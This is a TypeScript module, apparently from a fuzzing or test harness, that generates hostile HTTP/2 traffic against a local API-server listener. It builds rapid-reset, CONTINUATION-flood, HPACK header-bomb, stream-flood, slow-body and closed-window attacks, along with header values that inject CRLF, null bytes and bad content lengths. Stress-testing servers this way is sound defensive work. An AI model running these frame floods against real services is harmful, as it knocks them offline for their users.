/** Attacks with frames of HTTP/2: more of them than a client sends, and frames that do not fit. */
import { frame, indexed, literal, preface } from "../../support/http2-frames.js";
import { type Attack, attack, type Ending } from "../attack.js";
import type { ListenerInfo } from "../listener.js";
import { between, cut, pick, type Random } from "../random.js";
import { authorize } from "./http-text.js";

/** Types and flags of frames. */
const [data, headers, priority, reset, settings, push, ping, goAway, windowUpdate, continuation] = [
  ...[0, 1, 2, 3, 4, 5, 6, 7, 8, 9],
] as const;
const [endStream, endHeaders] = [1, 4];
const cancel = word(8);

type Frames = readonly Buffer[];
type Make = (random: Random, listener: ListenerInfo) => Frames;

/** Returns an attack on a connection that begins well. */
export function http2Attack(random: Random, listener: ListenerInfo): Attack {
  const [kind, make] = pick(random, kinds);
  const bytes = Buffer.concat([preface, frame(settings), ...make(random, listener)]);
  const whole = random() < 0.8 ? bytes : bytes.subarray(0, between(random, 1, bytes.length));
  const ending = pick<Ending>(random, ["half-close", "half-close", "reset", "hold"]);
  return attack(`HTTP/2: ${kind}`, cut(random, whole), { layer: "h2", ending });
}

/** More than a connection may have at a time. */
export function http2Flood(listener: ListenerInfo): Attack[] {
  const asking = times(5_000, (index) => frame(headers, endStream | endHeaders, idOf(index), askFor("/api", listener)));
  const slow = times(100, (index) => frame(headers, endHeaders, idOf(index), writeTo("/api/v1/namespaces", listener)));
  const resets = asking.flatMap((each, index) => [each, frame(reset, 0, idOf(index), cancel)]);
  const floods = { "thousands of streams": asking, "slow bodies": slow, "rapid reset": resets };
  return Object.entries(floods).map(([kind, frames]) => {
    const bytes = Buffer.concat([preface, frame(settings), ...frames]);
    return attack(`HTTP/2 flood: ${kind}`, bytes, { layer: "h2", ending: "hold" });
  });
}

const kinds: readonly (readonly [kind: string, make: Make])[] = [
  ["requests", (random, listener) => requests(random, listener, between(random, 1, 40))],
  ["more streams than the limit", (random, listener) => requests(random, listener, between(random, 101, 1_000))],
  [
    "rapid reset",
    (random, listener) =>
      requests(random, listener, between(random, 10, 1_500)).flatMap((each, index) => [
        each,
        frame(reset, 0, idOf(index), pick(random, [cancel, word(0), word(1)])),
      ]),
  ],
  [
    "CONTINUATION flood",
    (random) => [
      frame(headers, endStream, 1, literal("a", "b")),
      ...times(between(random, 1, 2_000), () => frame(continuation, 0, 1, literal("a", "b".repeat(random() * 50)))),
    ],
  ],
  [
    "headers without an end",
    (random) => [
      frame(headers, endStream, 1, literal("a", "b")),
      ...times(between(random, 1, 60), () => frame(continuation, 0, 1, literal("a", "b".repeat(16_000)))),
    ],
  ],
  ["header bomb", headerBomb],
  ["invalid HPACK", (random) => times(5, (index) => frame(headers, 5, idOf(index), noise(random, 300)))],
  ["odd headers", oddHeaders],
  ["pings", (random) => times(between(random, 1, 5_000), () => frame(ping, 0, 0, Buffer.alloc(8)))],
  ["empty settings", (random) => times(between(random, 1, 5_000), () => frame(settings))],
  ["odd settings", (random) => times(between(random, 1, 200), () => frame(settings, 0, 0, oddSetting(random)))],
  [
    "priorities",
    (random) => times(between(random, 1, 2_000), (index) => frame(priority, 0, idOf(index), Buffer.alloc(5))),
  ],
  ["windows", (random) => times(200, () => frame(windowUpdate, 0, between(random, 0, 3), word(random() * 2 ** 32)))],
  ["slow bodies", slowBodies],
  ["a closed window", closedWindow],
  [
    "empty data",
    (random, listener) => [
      frame(headers, endHeaders, 1, writeTo("/api/v1/namespaces", listener)),
      ...times(between(random, 1, 5_000), () => frame(data, 0, 1)),
    ],
  ],
  ["frames that do not fit", (random) => times(20, () => oddFrame(random))],
];

function requests(random: Random, listener: ListenerInfo, count: number): Buffer[] {
  return times(count, (index) => {
    return frame(headers, endStream | endHeaders, idOf(index), askFor(pick(random, listener.paths), listener));
  });
}

/** A large header in the table, which each request names many times with one byte. */
function headerBomb(random: Random, listener: ListenerInfo): Frames {
  const first = Buffer.concat([askFor("/api", listener), indexed("x-bomb", "b".repeat(3_900))]);
  const block = Buffer.concat([askFor("/api", listener), Buffer.alloc(between(random, 10, 15_000), 0xbe)]);
  return [
    frame(headers, endStream | endHeaders, 1, first),
    ...times(between(random, 1, 40), (index) => frame(headers, endStream | endHeaders, idOf(index + 1), block)),
  ];
}

function oddHeaders(random: Random, listener: ListenerInfo): Frames {
  const odd = [
    ...[literal(":path", "/api"), literal(":method", "GET"), literal(":scheme", "ftp"), literal(":status", "200")],
    ...[literal(":protocol", "websocket"), literal("connection", "upgrade"), literal("te", "gzip")],
    ...[literal("UPPER", "x"), literal("", "x"), literal("a", "\r\nb: c"), literal("a\0", "b"), literal("host", "x")],
    ...[literal("content-length", "-1"), literal("content-length", "5"), literal("expect", "100-continue")],
    ...[
      literal("cookie", "a=b"),
      Buffer.from([0x82]),
      Buffer.from([0x84]),
      Buffer.from([0x3f, 0xff, 0xff, 0xff, 0x0f]),
    ],
  ];
  return times(between(random, 1, 30), (index) => {
    const own = times(between(random, 1, 4), () => pick(random, odd));
    const usual = random() < 0.7 ? [askFor(pick(random, listener.paths), listener)] : [];
    const block = Buffer.concat(random() < 0.5 ? [...usual, ...own] : [...own, ...usual]);
    return frame(headers, endHeaders | between(random, 0, 1), idOf(index), block);
  });
}

function oddSetting(random: Random): Buffer {
  const setting = Buffer.alloc(6);
  setting.writeUInt16BE(between(random, 0, 9));
  setting.writeUInt32BE(pick(random, [0, 1, 16_384, 2 ** 24, 2 ** 31 - 1, 2 ** 32 - 1]), 2);
  return setting;
}

function slowBodies(random: Random, listener: ListenerInfo): Frames {
  return times(between(random, 1, 90), (index) => [
    frame(headers, endHeaders, idOf(index), writeTo(pick(random, listener.paths), listener)),
    frame(data, 0, idOf(index), Buffer.from('{"a":')),
  ]).flat();
}

/** Asks for much, and never lets the server send it. */
function closedWindow(random: Random, listener: ListenerInfo): Frames {
  const zero = Buffer.from([0, 4, 0, 0, 0, 0]);
  const large = times(between(random, 1, 90), (index) => {
    return frame(headers, endStream | endHeaders, idOf(index), askFor("/openapi/v2", listener));
  });
  return [frame(settings, 0, 0, zero), ...large];
}

function oddFrame(random: Random): Buffer {
  const types = [data, headers, priority, reset, settings, push, ping, goAway, windowUpdate, continuation, 10, 255];
  const stream = pick(random, [0, 1, 2, 3, 101, 2 ** 31 - 1, 2 ** 31]);
  return frame(pick(random, types), between(random, 0, 255), stream, noise(random, 40));
}

function askFor(path: string, listener: ListenerInfo): Buffer {
  return requestHead("GET", path, listener);
}

function writeTo(path: string, listener: ListenerInfo): Buffer {
  return Buffer.concat([
    requestHead("POST", path, listener),
    ...[literal("content-type", "application/json"), literal("content-length", "1000")],
  ]);
}

function requestHead(method: string, path: string, listener: ListenerInfo): Buffer {
  const token = authorize(listener).map((line) => literal("authorization", line.replace("authorization: ", "")));
  const pseudo = { ":method": method, ":scheme": "https", ":authority": "localhost", ":path": path };
  return Buffer.concat([...Object.entries(pseudo).map(([name, value]) => literal(name, value)), ...token]);
}

function idOf(index: number): number {
  return 2 * index + 1;
}

function word(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(Math.floor(value));
  return bytes;
}

function noise(random: Random, most: number): Buffer {
  return Buffer.from(times(between(random, 0, most), () => between(random, 0, 255)));
}

function times<T>(count: number, make: (index: number) => T): T[] {
  return Array.from({ length: count }, (_, index) => make(index));
}
